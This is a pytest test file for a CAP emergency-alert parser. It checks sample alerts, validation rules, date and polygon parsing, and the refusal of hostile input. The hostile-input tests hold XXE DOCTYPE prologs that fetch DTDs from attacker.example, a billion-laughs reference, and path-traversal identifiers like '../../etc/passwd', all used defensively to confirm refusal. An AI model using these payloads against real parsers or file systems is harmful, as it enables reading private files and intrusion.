"""CAP parsing and validation: every sample against samples/expected.json, every hostile input refused for the
right reason, the CAP 1.2 rules one by one, and the model invariants later stages rely on."""

from __future__ import annotations

import json
import tracemalloc
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from cinealert.cap import (
    AlertKey,
    CapEncodingError,
    CapError,
    CapInternalError,
    CapSecurityError,
    CapSizeError,
    CapStructureError,
    CapSyntaxError,
    CapValidationError,
    DisasterType,
    classify,
    parse_alert,
)
from cinealert.cap.geo import CapGeoError, parse_circle, parse_polygon
from cinealert.cap.timefmt import CapDateError, parse_cap_datetime
from cinealert.config import parse as parse_settings

SAMPLES = Path(__file__).resolve().parents[1] / "samples"
EXPECTED: dict[str, dict[str, object]] = json.loads((SAMPLES / "expected.json").read_text(encoding="utf-8"))
NOW = datetime.now(UTC)


def _sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def _replace(name: str, old: str, new: str, count: int = 1) -> bytes:
    text = _sample(name).decode("utf-8")
    assert old in text, f"{old!r} not in {name}"
    return text.replace(old, new, count).encode("utf-8")


def _refusal(data: bytes, **kwargs: object) -> CapError:
    with pytest.raises(CapError) as info:
        parse_alert(data, **kwargs)  # type: ignore[arg-type]
    exc = info.value
    assert not isinstance(exc, CapInternalError), exc.reason
    assert str(exc) == exc.reason
    assert "\n" not in exc.reason and exc.reason.strip() == exc.reason
    return exc


# -- samples/expected.json ---------------------------------------------------------------------------------


def test_expected_json_covers_every_sample() -> None:
    on_disk = {p.relative_to(SAMPLES).as_posix() for p in SAMPLES.rglob("*") if p.is_file()}
    on_disk -= {"expected.json", "README.md"}
    assert on_disk == set(EXPECTED)


def test_samples_cover_the_brief() -> None:
    valid = {name: exp for name, exp in EXPECTED.items() if exp["valid"]}
    for disaster in DisasterType:
        if disaster is DisasterType.OTHER:
            continue
        assert f"ko_{disaster.value}.xml" in valid, disaster
        assert f"en_{disaster.value}.xml" in valid, disaster
    assert sum(1 for exp in valid.values() if exp["disaster"] == "other") >= 4
    assert any(len(exp["languages"]) > 1 for exp in valid.values())  # type: ignore[arg-type]
    assert {"Update", "Cancel"} <= {exp["msg_type"] for exp in valid.values()}
    assert any(exp["expired"] for exp in valid.values())
    assert {"Exercise", "Test"} <= {exp["status"] for exp in valid.values()}
    assert len([n for n in EXPECTED if n.startswith("hostile/") and not EXPECTED[n]["valid"]]) >= 20


@pytest.mark.parametrize("name", sorted(n for n, e in EXPECTED.items() if e["valid"]))
def test_valid_sample(name: str) -> None:
    expected = EXPECTED[name]
    alert = parse_alert(_sample(name))
    result = classify(alert)
    assert result.disaster.value == expected["disaster"], result.reason
    assert alert.msg_type == expected["msg_type"]
    assert alert.status == expected["status"]
    assert alert.is_expired(NOW) is expected["expired"]
    assert list(alert.languages) == expected["languages"]
    assert [str(r.key) for r in alert.references] == expected.get("references", [])
    assert alert.infos, "every sample carries at least one info block"
    for info in alert.infos:
        assert info.event and info.categories
        for area in info.areas:
            assert area.area_desc
            for polygon in area.polygons:
                assert len(polygon) >= 4 and polygon[0] == polygon[-1]
    if not expected["expired"]:
        assert alert.expires is not None and alert.expires.year >= 2030


@pytest.mark.parametrize("name", sorted(n for n, e in EXPECTED.items() if not e["valid"]))
def test_invalid_sample(name: str) -> None:
    expected = EXPECTED[name]
    exc = _refusal(_sample(name))
    assert type(exc).__name__ == expected["error"]
    assert str(expected["reason"]) in exc.reason


# -- references between samples ----------------------------------------------------------------------------


def test_update_and_cancel_reference_the_samples_they_replace() -> None:
    flood_en = parse_alert(_sample("en_flood.xml"))
    update = parse_alert(_sample("update_flood.xml"))
    assert [r.key for r in update.references] == [flood_en.key]
    flood_ko = parse_alert(_sample("ko_flood.xml"))
    cancel = parse_alert(_sample("cancel_flood.xml"))
    assert [r.key for r in cancel.references] == [flood_ko.key]
    assert cancel.infos[0].response_types == ("AllClear",)


# -- model contents ----------------------------------------------------------------------------------------


def test_flood_sample_model_in_full() -> None:
    alert = parse_alert(_sample("en_flood.xml"))
    assert alert.version == "1.2" and alert.signed is False
    assert alert.identifier.startswith("urn:oid:2.49.0.1.840")
    assert alert.sender == "w-nws.webmaster@noaa.gov"
    assert alert.sent_text == "2026-11-25T14:42:00-05:00"
    assert alert.sent == datetime(2026, 11, 25, 19, 42, tzinfo=UTC)
    assert alert.codes == ("IPAWSv1.0",)
    assert alert.source == "NWS Sterling VA"
    (info,) = alert.infos
    assert info.language == "en-US"
    assert info.categories == ("Met",)
    assert info.event_codes == (("SAME", "FFW"), ("NationalWeatherService", "FFW"))
    assert info.event_code_values() == ("FFW", "FFW")
    assert ("EAS-ORG", "WXR") in info.parameters
    assert info.response_types == ("Avoid",)
    assert info.expires == datetime(2030, 11, 26, 1, 45, tzinfo=UTC)
    assert info.description is not None and "Rock Creek" in info.description
    (area,) = info.areas
    assert area.geocodes == (("SAME", "024031"), ("UGC", "MDC031"))
    assert area.polygons[0][0] == (39.05, -77.15)
    assert alert.warnings == ()


def test_bilingual_alert_and_info_for() -> None:
    alert = parse_alert(_sample("bilingual_typhoon.xml"))
    assert alert.languages == ("ko-KR", "en-US")
    ko, en = alert.info_for("ko"), alert.info_for("en-US")
    assert ko is not None and ko.event == "태풍경보"
    assert en is not None and en.event == "Typhoon Warning"
    assert alert.info_for("ja") is None


def test_cap_1_1_with_prefix_and_very_likely() -> None:
    alert = parse_alert(_sample("cap11_flood.xml"))
    assert alert.version == "1.1"
    info = alert.infos[0]
    assert info.certainty == "Likely"
    assert info.language == "en-US"  # CAP default when <language> is absent
    assert any("Very Likely" in w for w in alert.warnings)


def test_resources_and_circles() -> None:
    data = _replace(
        "en_landslide.xml",
        "<area>",
        "<resource><resourceDesc>map</resourceDesc><mimeType>image/png</mimeType><size>20480</size>"
        "<uri>https://sachet.ndma.gov.in/map.png</uri><digest>da39a3ee5e6b4b0d3255bfef95601890afd80709</digest>"
        "</resource><area>",
    )
    info = parse_alert(data).infos[0]
    (resource,) = info.resources
    assert (resource.resource_desc, resource.mime_type, resource.size) == ("map", "image/png", 20480)
    assert resource.uri == "https://sachet.ndma.gov.in/map.png"
    circle = info.areas[0].circles[0]
    assert (circle.lat, circle.lon, circle.radius_km) == (9.85, 76.97, 25.0)


def test_resource_needs_mime_type_and_integer_size() -> None:
    bad = _replace(
        "en_landslide.xml", "<area>", "<resource><resourceDesc>map</resourceDesc></resource><area>"
    )
    assert "<mimeType> is missing" in _refusal(bad).reason
    bad = _replace(
        "en_landslide.xml",
        "<area>",
        "<resource><resourceDesc>m</resourceDesc><mimeType>image/png</mimeType><size>2kB</size></resource><area>",
    )
    assert "size" in _refusal(bad).reason


def test_entities_in_text_are_decoded_and_cdata_kept() -> None:
    data = _replace(
        "en_flood.xml",
        "<headline>Flash Flood Warning issued",
        "<headline><![CDATA[Rock & Roll Creek <rising>]]> &amp; Flash Flood Warning issued",
    )
    headline = parse_alert(data).infos[0].headline
    assert headline is not None and headline.startswith("Rock & Roll Creek <rising> & Flash Flood")


def test_foreign_namespace_extensions_are_ignored() -> None:
    data = _replace(
        "en_flood.xml", "</info>", '</info><ext:stationHint xmlns:ext="urn:example:ext">hi</ext:stationHint>'
    )
    assert parse_alert(data).identifier


def test_foreign_element_named_like_a_cap_one_is_refused_not_ignored() -> None:
    # <ext:note> where <alert> expects CAP's <note>: skipping it as an extension would drop it without a word.
    data = _replace("en_flood.xml", "</info>", '</info><ext:note xmlns:ext="urn:example:ext">hi</ext:note>')
    exc = _refusal(data)
    assert isinstance(exc, CapValidationError)
    assert exc.reason.startswith("alert: <note> is in namespace 'urn:example:ext'")
    assert "so it would be ignored" in exc.reason


def test_info_is_optional_but_profile_warns() -> None:
    data = _replace("cancel_flood.xml", "<info>", "<!--").replace(b"</info>", b"-->")
    alert = parse_alert(data)
    assert alert.infos == () and alert.msg_type == "Cancel"
    assert classify(alert).disaster is DisasterType.OTHER
    alert = parse_alert(_replace("en_flood.xml", "<info>", "<!--").replace(b"</info>", b"-->"))
    assert any("no <info>" in w for w in alert.warnings)


def test_profile_warnings() -> None:
    alert = parse_alert(_sample("ko_flood.xml"))
    assert any("SAME" in w for w in alert.warnings)
    data = _replace("en_drought.xml", "<expires>2030-12-31T23:59:00+02:00</expires>", "")
    warnings = parse_alert(data).warnings
    assert any("no <expires>" in w for w in warnings)
    data = _replace("en_drought.xml", "<area>", "<!--").replace(b"</area>", b"-->")
    assert any("no <area>" in w for w in parse_alert(data).warnings)
    assert parse_alert(_sample("en_flood.xml")).warnings == ()


# -- rules one by one --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        ("<msgType>Alert</msgType>", "<msgType>Alarm</msgType>", "msgType"),
        ("<scope>Public</scope>", "<scope>Everyone</scope>", "scope"),
        ("<urgency>Immediate</urgency>", "<urgency>Soon</urgency>", "urgency"),
        ("<certainty>Likely</certainty>", "<certainty>Very Likely</certainty>", "certainty"),
        ("<responseType>Avoid</responseType>", "<responseType>Run</responseType>", "responseType"),
        ("<identifier>urn:oid", "<identifier>a,b urn:oid", "identifier"),
        ("<sender>w-nws.webmaster@noaa.gov</sender>", "<sender>nws &lt;x&gt;</sender>", "sender"),
        (
            "<sender>w-nws.webmaster@noaa.gov</sender>",
            "<sender>  </sender>",
            "sender: required value is empty",
        ),
        ("<language>en-US</language>", "<language>english (US)</language>", "language"),
        ("<event>Flash Flood Warning</event>", "", "<event> is missing"),
        ("<category>Met</category>", "", "<category> is missing"),
        ("<event>Flash Flood Warning</event>", "<event><b>x</b></event>", "must contain text"),
        ("<valueName>SAME</valueName>", "", "<valueName> is missing"),
        ("<sent>2026-11-25T14:42:00-05:00</sent>", "<sent>2026-11-25T14:42:00.5-05:00</sent>", "fractional"),
        ("<sent>2026-11-25T14:42:00-05:00</sent>", "<sent>2026-11-25 14:42:00-05:00</sent>", "YYYY-MM-DD"),
        ("<sent>2026-11-25T14:42:00-05:00</sent>", "<sent>2026-11-25T14:42:00+15:00</sent>", "offset"),
        ("<onset>2026-11-25T14:42:00-05:00</onset>", "<onset>tomorrow</onset>", "onset"),
        ("<areaDesc>Montgomery, MD</areaDesc>", "<areaDesc>M</areaDesc><altitude>x</altitude>", "altitude"),
        ("<areaDesc>Montgomery, MD</areaDesc>", "<areaDesc>M</areaDesc><ceiling>30</ceiling>", "ceiling"),
        ("39.05,-77.15 39.12", "39.05,nan 39.12", "decimal"),
        ("39.05,-77.15 39.12", "39.05;-77.15 39.12", "lat,lon"),
        (  # a foreign-namespace element named like a CAP one is a namespace mistake, not an extension
            "<identifier>urn:oid",
            "<cap:identifier xmlns:cap='urn:x'>x</cap:identifier><identifier>urn:oid",
            "alert: <identifier> is in namespace 'urn:x', not the alert's",
        ),
    ],
)
def test_rule(old: str, new: str, reason: str) -> None:
    data = _replace("en_flood.xml", old, new)
    exc = _refusal(data)
    assert isinstance(exc, CapValidationError)
    assert reason in exc.reason


def test_scope_rules_are_satisfied_by_their_elements() -> None:
    restricted = _replace(
        "en_flood.xml",
        "<scope>Public</scope>",
        "<scope>Restricted</scope><restriction>EOC staff</restriction>",
    )
    assert parse_alert(restricted).restriction == "EOC staff"
    private = _replace(
        "en_flood.xml",
        "<scope>Public</scope>",
        '<scope>Private</scope><addresses>eoc@example.org "Duty Officer"</addresses>',
    )
    assert parse_alert(private).addresses == 'eoc@example.org "Duty Officer"'


def test_incidents_and_multiple_references() -> None:
    data = _replace(
        "update_flood.xml",
        "</references>",
        " cap.kma.go.kr,KR.KMA.1,2026-11-25T16:30:00+09:00</references>"
        '<incidents>KLWX-FF-0042 "Rock Creek flood"</incidents>',
    )
    alert = parse_alert(data)
    assert len(alert.references) == 2
    assert alert.references[1].key == AlertKey("cap.kma.go.kr", "KR.KMA.1", "2026-11-25T16:30:00+09:00")
    assert alert.incidents == ("KLWX-FF-0042", "Rock Creek flood")


@pytest.mark.parametrize("msg_type", ["Cancel", "Ack", "Error"])
def test_references_required(msg_type: str) -> None:
    data = _replace("en_flood.xml", "<msgType>Alert</msgType>", f"<msgType>{msg_type}</msgType>")
    assert f"required when msgType is {msg_type}" in _refusal(data).reason


def test_reference_with_bad_date() -> None:
    data = _replace("update_flood.xml", ",2026-11-25T14:42:00-05:00</references>", ",yesterday</references>")
    assert "references" in _refusal(data).reason


# -- date-times and geometry -------------------------------------------------------------------------------


def test_cap_datetime() -> None:
    value = parse_cap_datetime("2026-11-25T16:30:00+09:00")
    assert value == datetime(2026, 11, 25, 7, 30, tzinfo=UTC)
    assert value.utcoffset() == timedelta(hours=9)
    utc = parse_cap_datetime("2026-11-25T07:30:00-00:00")
    assert utc == value and utc.utcoffset() == timedelta(0)
    assert parse_cap_datetime("2026-11-25T07:30:00-03:30").tzinfo == timezone(-timedelta(hours=3, minutes=30))
    bad_values = (
        "",
        "2026-11-25",
        "2026-02-30T00:00:00+00:00",
        "2026-11-25T24:00:00+00:00",
        "２０２６-11-25T07:30:00+00:00",
    )
    for bad in bad_values:
        with pytest.raises(CapDateError):
            parse_cap_datetime(bad)


def test_polygon_and_circle_parsers() -> None:
    ring = parse_polygon("  1,2\n 3,4\t5,6 1,2 ")
    assert ring == ((1.0, 2.0), (3.0, 4.0), (5.0, 6.0), (1.0, 2.0))
    assert parse_polygon("-90,-180 90,180 0,0 -90,-180")[1] == (90.0, 180.0)
    for bad in (
        "1,2 3,4 1,2",
        "1,2 3,4 5,6 7,8",
        "1,2,3 3,4 5,6 1,2",
        "1,181 3,4 5,6 1,181",
        "1,inf 3,4 5,6 1,inf",
    ):
        with pytest.raises(CapGeoError):
            parse_polygon(bad)
    assert parse_circle("37.5,127.0 0").radius_km == 0.0
    for bad in ("37.5,127.0", "37.5,127.0 -1", "37.5 127.0 5", "91,0 5"):
        with pytest.raises(CapGeoError):
            parse_circle(bad)


# -- hostile input -----------------------------------------------------------------------------------------


def test_oversized_message_is_refused_before_parsing() -> None:
    filler = b"<note>" + b"x" * (2 * 1024 * 1024) + b"</note>"
    data = _sample("en_flood.xml").replace(b"<scope>Public</scope>", b"<scope>Public</scope>" + filler)
    exc = _refusal(data)
    assert isinstance(exc, CapSizeError) and "cap.max_bytes" in exc.reason
    small = parse_settings({"cap": {"max_bytes": 2048}}).cap
    exc = _refusal(_sample("en_flood.xml"), settings=small)
    assert isinstance(exc, CapSizeError) and "2048" in exc.reason
    big = parse_settings({"cap": {"max_bytes": 4 * 1024 * 1024}}).cap
    assert parse_alert(data, settings=big).note == "x" * (2 * 1024 * 1024)


def test_billion_laughs_is_refused_fast_and_small() -> None:
    tracemalloc.start()
    try:
        exc = _refusal(_sample("hostile/billion_laughs.xml"))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(exc, CapSecurityError)
    assert peak < 5 * 1024 * 1024  # expanded, it would be ~3 GB


def test_xxe_never_reads_the_file() -> None:
    exc = _refusal(_sample("hostile/xxe_file.xml"))
    assert isinstance(exc, CapSecurityError)
    assert "root:" not in exc.reason


@pytest.mark.parametrize(
    "prolog",
    [
        b"<!DOCTYPE alert>",
        b"<!doctype alert>",
        b'<!DOCTYPE alert PUBLIC "-//x//EN" "http://attacker.example/x.dtd">',
        b'<!DOCTYPE alert [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
        b"<!DOCTYPE\nalert [<!ENTITY a 'b'>]>",
    ],
)
def test_any_doctype_is_refused(prolog: bytes) -> None:
    data = _sample("en_flood.xml").replace(b"?>", b"?>" + prolog, 1)
    assert isinstance(_refusal(data), CapSecurityError)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"", CapSizeError),
        (b" \n\t ", CapSizeError),
        (b"\xff\xfe<\x00a\x00", CapEncodingError),
        (b"\xef\xbb\xbfhello", CapSyntaxError),
        (b"<alert", CapSyntaxError),
        (b"<a><b></a>", CapSyntaxError),
        (b"<alert/>trailing", CapSyntaxError),
        (b"<a>\x01</a>", CapSyntaxError),
        (b"<a>&undefined;</a>", CapSyntaxError),
        (b"<alert/>", CapStructureError),
        (b'<alert xmlns="http://www.incident.com/cap/1.0"/>', CapStructureError),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>', CapEncodingError),
        (b"\x1f\x8b\x08\x00\x00\x00\x00\x00", CapEncodingError),
    ],
)
def test_garbage(data: bytes, kind: type[CapError]) -> None:
    assert isinstance(_refusal(data), kind)


def test_utf8_bom_is_accepted() -> None:
    assert parse_alert(b"\xef\xbb\xbf" + _sample("en_flood.xml")).identifier


def test_many_elements_are_refused() -> None:
    codes = b"<code>x</code>" * 60_000
    data = _sample("en_flood.xml").replace(b"<code>IPAWSv1.0</code>", codes)
    exc = _refusal(data)
    assert isinstance(exc, CapSecurityError) and "too many" in exc.reason


def test_hostile_identifier_is_accepted_but_never_a_path(tmp_path: Path) -> None:
    alert = parse_alert(_sample("hostile/hostile_identifier.xml"))
    assert alert.identifier == "../../etc/passwd"
    _assert_slug_stays_inside(alert.key, tmp_path)


@pytest.mark.parametrize(
    "identifier",
    [
        "../../x",
        "../../../../../../etc/passwd",
        "/etc/passwd",
        "/",
        "..",
        ".",
        "C:\\Windows\\system32",
        "\\\\server\\share",
        "홍수경보/../../../무엇",
        "🌊" * 50,
        "a" * 5000,
        ".hidden",
        "-rf",
        "CON",
        "x/" * 300,
        "\u202eevil",
    ],
)
def test_slug_stays_inside_a_directory(identifier: str, tmp_path: Path) -> None:
    _assert_slug_stays_inside(AlertKey("sender@example", identifier, "2026-11-25T00:00:00+00:00"), tmp_path)


def _assert_slug_stays_inside(key: AlertKey, directory: Path) -> None:
    slug = key.slug()
    assert slug and len(slug) <= 81
    assert "/" not in slug and "\\" not in slug and "\x00" not in slug
    assert not slug.startswith((".", "-"))
    target = (directory / slug).resolve()
    assert target.parent == directory.resolve()
    target.write_text("ok")  # a real file system accepts it
    assert target.read_text() == "ok"
    other = AlertKey(key.sender, key.identifier + "x", key.sent)
    assert other.slug() != slug
